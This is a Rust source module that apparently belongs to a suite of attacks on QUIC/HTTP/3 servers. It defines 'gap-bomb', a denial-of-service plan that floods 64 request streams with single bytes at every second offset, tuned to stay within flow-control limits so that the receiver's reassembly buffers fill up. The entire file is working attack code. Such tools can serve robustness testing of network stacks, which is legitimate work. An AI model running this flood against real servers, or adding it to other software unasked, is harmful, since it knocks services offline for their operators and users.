//! Streams with a gap before every byte.

use crate::attack::{Plan, Victim};
use crate::http;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "gap-bomb",
    labels: &["A26"],
    summary: "one byte at every second offset of 64 request streams",
    victim: Victim::Server,
    make: || Box::new(gap_bomb()),
};

fn gap_bomb() -> Crowd {
    Crowd::of_packets(2, BURST, |_, progress| {
        let first = progress.streams;
        progress.streams += FRAMES;
        let frames = (first..progress.streams).map(|number| {
            let id = http::request_stream(number % STREAMS);
            let offset = 1 + 2 * (number / STREAMS);
            http::stream(id, offset % WINDOW, &[0], false)
        });
        frames.collect()
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 16;

/// STREAM frames in one packet.
const FRAMES: u64 = 100;

/// The number of streams, which take turns.
const STREAMS: u64 = 64;

/// The limit of offsets, which is within the flow control limits of every receiver. It is even, so
/// that offsets stay odd.
const WINDOW: u64 = 8192;
